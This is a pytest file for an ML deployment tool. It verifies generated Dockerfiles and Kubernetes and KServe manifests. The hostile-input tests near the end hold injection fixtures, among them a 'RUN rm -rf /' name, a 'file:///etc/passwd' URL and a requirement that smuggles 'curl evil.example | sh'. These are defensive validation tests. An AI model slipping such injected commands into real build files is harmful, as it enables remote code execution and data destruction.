"""``mlsteward deployments dockerfile|manifest``: the files are checked, not built. The
Dockerfile runs ``mlsteward serve NAME`` on the manifest's pins, manifests parse as the
objects Kubernetes and KServe expect, no file holds a token, and hostile values are refused
with nothing written."""

from __future__ import annotations

import json
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import yaml

from mlsteward.domain.errors import InvalidArgumentError, MlstewardError
from mlsteward.engines.models.manifest import read_manifest
from mlsteward.engines.models.packaging import save_model
from mlsteward.interfaces.sdk.client import Client
from mlsteward.interfaces.sdk.tracking_uri import close_backends
from mlsteward.testing.server_process import running_server

from .conftest import Cli

#: No file may set the token variable to a value: it comes from a Secret at run time.
TOKEN_VALUE = "MLSTEWARD_TRACKING_TOKEN="


def log_version(client: Client, name: str, *, requirements: list[str] | None = None) -> int:
    """A scikit-learn model saved with its manifest, logged to a run and registered as a new
    version of ``name`` (``requirements`` overwrite the manifest's pins)."""
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(np.int64))
    run_id = client.create_run(client.create_experiment(f"pack-{uuid.uuid4().hex[:8]}")).info.run_id
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "model"
        save_model(model, folder, input_example=x[:3], run_id=run_id)
        if requirements is not None:
            path = folder / "MLmodel.json"
            data = json.loads(path.read_text())
            data["requirements"] = requirements
            path.write_text(json.dumps(data))
        client.log_artifacts(run_id, folder, "model")
    if name not in {m.name for m in client.search_registered_models()}:
        client.create_registered_model(name)
    return int(client.create_model_version(name, f"runs:/{run_id}/model", run_id=run_id).version)


def manifest_of(client: Client, name: str, version: int) -> dict[str, object]:
    source = client.get_model_version(name, str(version)).source
    with tempfile.TemporaryDirectory() as tmp:
        run_id, path = source.removeprefix("runs:/").split("/", 1)
        local = client.download_artifacts(run_id, path, tmp)
        return read_manifest(Path(local)).to_dict()


@pytest.fixture
def deployed(client: Client) -> str:
    """``churn-live`` (3 replicas) on ``models:/churn@champion``."""
    log_version(client, "churn")
    client.set_registered_model_alias("churn", "champion", 1)
    client.deployments.create("churn-live", "models:/churn@champion", replicas=3, reason="t")
    return "churn-live"


def _files(folder: Path) -> dict[str, str]:
    return {p.name: p.read_text() for p in sorted(folder.iterdir())}


def test_dockerfile_serves_the_deployment_on_the_manifest_pins(
    cli: Cli, client: Client, deployed: str, tmp_path: Path
) -> None:
    out = tmp_path / "image"
    result = cli("deployments", "dockerfile", deployed, "--output", str(out))
    assert result.exit_code == 0, result.output
    files = _files(out)
    assert set(files) == {"Dockerfile", "requirements.txt"}
    manifest = manifest_of(client, "churn", 1)
    lines = files["Dockerfile"].splitlines()
    python = ".".join(str(manifest["python_version"]).split(".")[:2])
    assert f"FROM python:{python}-slim" in lines
    assert "COPY requirements.txt ." in lines
    assert "RUN pip install --no-cache-dir -r requirements.txt" in lines
    assert "USER 10001" in lines
    assert "EXPOSE 8080" in lines
    [cmd] = [line for line in lines if line.startswith("CMD ")]
    assert json.loads(cmd[4:]) == [
        "mlsteward", "serve", deployed, "--host", "0.0.0.0", "--port", "8080",
    ]  # fmt: skip
    pins = [line for line in files["requirements.txt"].splitlines() if not line.startswith("#")]
    expected = set(manifest["requirements"])  # type: ignore[arg-type]
    # the deployment's runtime is auto: ONNX Runtime comes along, at the control plane's version
    assert {p for p in pins if not p.startswith("onnxruntime==")} == expected
    assert any(p.startswith("mlsteward==") for p in pins)
    assert all("==" in p for p in pins)
    for text in files.values():
        assert TOKEN_VALUE not in text and "Bearer" not in text


def test_dockerfile_with_grpc(client: Client, deployed: str) -> None:
    files = client.deployments.dockerfile(deployed, grpc=True)
    [cmd] = [line for line in files["Dockerfile"].splitlines() if line.startswith("CMD ")]
    assert json.loads(cmd[4:])[-2:] == ["--grpc-port", "8081"]
    assert "EXPOSE 8080 8081" in files["Dockerfile"].splitlines()
    assert any(p.startswith("mlsteward[grpc]==") for p in files["requirements.txt"].split())


def test_kubernetes_manifest(cli: Cli, deployed: str, tmp_path: Path) -> None:
    result = cli(
        "deployments", "manifest", deployed, "--format", "kubernetes",
        "--image", "registry.example.com/churn:1.0", "--control-plane", "https://ml.example.com",
        "--output", str(tmp_path / "k8s"),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    files = _files(tmp_path / "k8s")
    assert list(files) == ["churn-live-kubernetes.yaml"]
    text = files["churn-live-kubernetes.yaml"]
    assert TOKEN_VALUE not in text
    objects = {o["kind"]: o for o in yaml.safe_load_all(text)}
    assert set(objects) == {"Deployment", "Service", "HorizontalPodAutoscaler"}
    deployment = objects["Deployment"]
    assert deployment["metadata"]["name"] == deployed
    assert deployment["spec"]["replicas"] == 3
    labels = deployment["spec"]["selector"]["matchLabels"]
    assert deployment["spec"]["template"]["metadata"]["labels"] == labels
    [container] = deployment["spec"]["template"]["spec"]["containers"]
    assert container["image"] == "registry.example.com/churn:1.0"
    assert container["readinessProbe"]["httpGet"] == {"path": "/v2/health/ready", "port": 8080}
    assert container["livenessProbe"]["httpGet"] == {"path": "/v2/health/live", "port": 8080}
    assert container["resources"]["requests"] == {"cpu": "1", "memory": "1Gi"}
    env = {e["name"]: e for e in container["env"]}
    assert env["MLSTEWARD_TRACKING_URI"]["value"] == "https://ml.example.com"
    token = env["MLSTEWARD_TRACKING_TOKEN"]
    assert "value" not in token
    assert token["valueFrom"]["secretKeyRef"] == {"name": "churn-live-token", "key": "token"}
    service = objects["Service"]
    assert service["spec"]["selector"] == labels
    assert [p["port"] for p in service["spec"]["ports"]] == [8080]
    hpa = objects["HorizontalPodAutoscaler"]["spec"]
    assert hpa["scaleTargetRef"]["name"] == deployed
    assert (hpa["minReplicas"], hpa["maxReplicas"]) == (3, 9)


def test_kserve_manifest(client: Client, deployed: str) -> None:
    files = client.deployments.manifest(
        deployed,
        "kserve",
        image="churn:latest",
        control_plane_url="http://mlsteward.ml.svc:5000",
        token_secret="serving-token",
        max_replicas=5,
        memory="2Gi",
    )
    [service] = yaml.safe_load_all(files["churn-live-kserve.yaml"])
    assert service["apiVersion"] == "serving.kserve.io/v1beta1"
    assert service["kind"] == "InferenceService"
    predictor = service["spec"]["predictor"]
    assert (predictor["minReplicas"], predictor["maxReplicas"]) == (3, 5)
    [container] = predictor["containers"]
    assert container["name"] == "kserve-container" and container["image"] == "churn:latest"
    assert container["ports"] == [{"containerPort": 8080, "protocol": "TCP"}]
    assert container["readinessProbe"]["httpGet"]["path"] == "/v2/health/ready"
    env = {e["name"]: e for e in container["env"]}
    assert env["MLSTEWARD_TRACKING_TOKEN"]["valueFrom"]["secretKeyRef"]["name"] == "serving-token"
    assert container["resources"]["limits"] == {"memory": "2Gi"}


@pytest.mark.parametrize(
    "name", ["../etc", "Churn", "a b", "x\nRUN rm -rf /", "-lead", "a" * 64, "x;y"]
)
def test_hostile_deployment_names_are_refused(cli: Cli, name: str, tmp_path: Path) -> None:
    for args in (
        ("dockerfile", name),
        ("manifest", name, "--image", "i:1", "--control-plane", "https://x.example.com"),
    ):
        result = cli("deployments", *args, "--output", str(tmp_path / "out"))
        assert result.exit_code != 0
        assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("image", "churn:1\nkind: Secret"),
        ("image", "churn latest"),
        ("control_plane_url", "file:///etc/passwd"),
        ("control_plane_url", "https://x.example.com\n  - evil"),
        ("token_secret", "Bad_Secret"),
        ("cpu", "1; rm"),
        ("memory", "lots"),
        ("max_replicas", 2),
        ("format", "helm"),
    ],
)
def test_hostile_manifest_values_are_refused(
    client: Client, deployed: str, option: str, value: object
) -> None:
    values: dict[str, object] = {
        "format": "kubernetes",
        "image": "churn:1",
        "control_plane_url": "https://x.example.com",
        option: value,
    }
    manifest_format = values.pop("format")
    with pytest.raises(InvalidArgumentError):
        client.deployments.manifest(deployed, manifest_format, **values)  # type: ignore[arg-type]


def test_a_manifest_requirement_that_is_not_a_pin_is_refused(client: Client) -> None:
    log_version(client, "hostile", requirements=["numpy==1.26.0\nRUN curl evil.example | sh"])
    client.deployments.create("hostile-live", "models:/hostile/1", reason="t")
    with pytest.raises(InvalidArgumentError, match="requirement"):
        client.deployments.dockerfile("hostile-live")


def test_a_version_without_a_manifest_is_a_conflict(client: Client) -> None:
    run_id = client.create_run(client.create_experiment("bare")).info.run_id
    client.log_text(run_id, "weights", "model/model.bin")
    client.create_registered_model("bare")
    client.create_model_version("bare", f"runs:/{run_id}/model", run_id=run_id)
    client.deployments.create("bare-live", "models:/bare/1", reason="t")
    with pytest.raises(MlstewardError, match="no model manifest") as caught:
        client.deployments.dockerfile("bare-live")
    assert caught.value.http_status == 409


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root: Path = tmp_path_factory.mktemp("packaging-server")
    with running_server(root / "p.db", root / "artifacts") as url:
        yield str(url)


@pytest.mark.server
def test_the_same_files_over_rest(server: str) -> None:
    client = Client(server, user="alice")
    try:
        log_version(client, "remote")
        client.deployments.create("remote-live", "models:/remote/1", replicas=2, reason="t")
        files = client.deployments.dockerfile("remote-live")
        assert '"serve", "remote-live"' in files["Dockerfile"]
        manifest = client.deployments.manifest(
            "remote-live", "kubernetes", image="remote:1", control_plane_url=server
        )
        [deployment, *_] = yaml.safe_load_all(manifest["remote-live-kubernetes.yaml"])
        assert deployment["spec"]["replicas"] == 2
        with pytest.raises(InvalidArgumentError):
            client.deployments.manifest(
                "remote-live", "kubernetes", image="a b", control_plane_url=server
            )
    finally:
        close_backends()
